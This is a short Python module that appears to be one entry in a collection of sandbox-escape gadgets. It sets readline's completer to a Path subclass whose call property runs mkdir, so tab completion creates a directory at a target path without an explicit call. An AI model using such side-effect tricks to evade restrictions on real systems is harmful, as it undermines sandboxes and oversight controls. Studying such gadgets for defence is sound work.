"""An object without a frame completes what is typed."""
CATEGORY = "callable"
REACH = "write"
NEEDS = ("readline",)

import operator
import pathlib

from . import payload


class Path(type(pathlib.Path())):
    """However it is called, it makes its directory."""
    __call__ = property(operator.methodcaller("mkdir"))


def attack(readline):
    readline.set_completer(Path(payload.TARGET))
